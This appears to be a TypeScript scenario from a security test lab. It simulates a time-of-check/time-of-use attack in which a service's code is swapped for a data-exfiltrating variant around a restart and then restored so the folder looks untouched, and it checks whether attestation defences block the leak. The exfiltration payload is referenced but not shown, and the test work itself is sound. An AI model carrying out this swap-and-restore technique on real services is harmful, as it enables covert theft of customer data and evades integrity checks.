import { copyFile, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { measuredByRuntime } from '../../defences/attestation.js';
import { verifyServices } from '../../lab/attest.js';
import { homeOfLab, restartService } from '../../lab/restart.js';
import { ProcessRuntime } from '../../lab/runtimes/process.js';
import type { Runtime } from '../../lab/runtimes/runtime.js';
import { ensureAttested, servicePart, variantBundle, victimCall } from '../plant.js';
import { sinkEvidence, sinkMark, sinkUrlForParts } from '../sink.js';
import { TARGET } from '../target.js';
import { judgeByData, type Scenario, type ScenarioContext } from '../types.js';

interface Swapped {
  service: string;
  appDir: string;
  /** the folder's own service.mjs, as it was */
  original: Buffer;
}

/** The process runtime, with `swap` run right after a start's measurement, before the program runs. */
function swappingAfterMeasurement(swap: () => Promise<void>): Runtime {
  const base = new ProcessRuntime();
  return Object.assign(Object.create(base) as ProcessRuntime, {
    start: (launch: Parameters<Runtime['start']>[0], hooks: Parameters<Runtime['start']>[1] = {}) =>
      base.start(launch, {
        beforeRun: async (part) => {
          await hooks.beforeRun?.(part);
          await swap();
        },
      }),
  });
}

/**
 * The review's time-of-check/time-of-use attack on a restart, at the two moments an attacker who
 * writes the code folder has: right after the measurement that precedes the start, and before the
 * restart; each time the original is put back once the service runs, so that the folder is
 * pristine at every later look.
 */
export const swapAtRestart: Scenario = {
  id: 'malicious-service.swap-at-restart',
  title: "A service's code swapped for its restart and put back once it runs",
  paperAttack: 4,
  technique: 'T1036',
  description:
    "The attacker, who can write the customers service's code folder, puts the exfiltrating variant of the kit (src/attacks/payloads/exfil-service.ts) in place of its service.mjs around a restart and puts the original back as soon as the service runs, so the folder is pristine whenever anyone looks again. First right after the measurement that precedes the start (the review's sequence: a watcher renames the file in on the supervisor's 'measured before restart'), then before the restart. The victim reads a customer record through the gateway after each. The process runtime starts a service from a read-only copy made from the bytes read once, before any measurement: the first swap never runs, in any posture. The second runs the swapped code in none; in paper the variant reports the hash of the copy it runs from, honestly, and is refused; in trusted it is measured before the start, and every re-measure after the put-back hashes the folder and the copy that runs, so it stays untrusted. Revert puts the original back and restarts the service.",
  evidence:
    "The records that reached the attacker's sink after each of the victim's reads (succeeded when the customer record is among them), and the status of each read.",
  expected: { none: 'succeeded', paper: 'blocked', trusted: 'blocked' },
  onlyOn: {
    runtimes: ['process'],
    why: "the code copy and the race are the process runtime's; on Docker a service's code is copied into a new container and measured from it (malicious-service.tampered-code)",
  },

  async setup(ctx) {
    const part = servicePart(ctx, TARGET.service);
    const appDir = part.appDir as string;
    const swapped: Swapped = {
      service: TARGET.service,
      appDir,
      original: await readFile(join(appDir, 'service.mjs')),
    };
    ctx.scratch.swapped = swapped;
  },

  async detonate(ctx) {
    const s = ctx.scratch.swapped as Swapped;
    const swapIn = async () => {
      await writeFile(
        join(s.appDir, 'attacker.json'),
        `${JSON.stringify({ sink: sinkUrlForParts(ctx.lab) }, null, 2)}\n`,
      );
      await copyFile(variantBundle('exfil'), join(s.appDir, 'service.mjs'));
    };
    const moments: [string, () => Promise<void>][] = [
      [
        'right after the measurement before the start',
        () =>
          restartService(ctx.lab, s.service, { runtime: swappingAfterMeasurement(swapIn) }).then(
            () => undefined,
          ),
      ],
      [
        'before the restart',
        async () => {
          await swapIn();
          await restartService(ctx.lab, s.service);
        },
      ],
    ];
    for (const [when, restart] of moments) {
      const mark = await sinkMark(ctx.lab);
      try {
        await restart();
      } finally {
        await putBack(s);
      }
      // The watchman's re-measure of a folder that looks pristine again, done now, not in 10 s.
      if (measuredByRuntime(ctx.defences.attestation)) await verifyServices(homeOfLab(ctx.lab), [s.service]);
      await victimCall(
        ctx,
        TARGET.service,
        TARGET.path,
        `the victim reads a customer record (swapped ${when})`,
      );
      await sinkEvidence(ctx, mark, TARGET.marker, `what reached the attacker sink (swapped ${when})`);
    }
  },

  judge: judgeByData,

  async revert(ctx: ScenarioContext) {
    const s = ctx.scratch.swapped as Swapped | undefined;
    if (s === undefined) return;
    await putBack(s);
    await restartService(ctx.lab, s.service);
    await ensureAttested(ctx, s.service);
    ctx.scratch.swapped = undefined;
  },
};

async function putBack(s: Swapped): Promise<void> {
  await writeFile(join(s.appDir, 'service.mjs'), s.original);
  await rm(join(s.appDir, 'attacker.json'), { force: true });
}
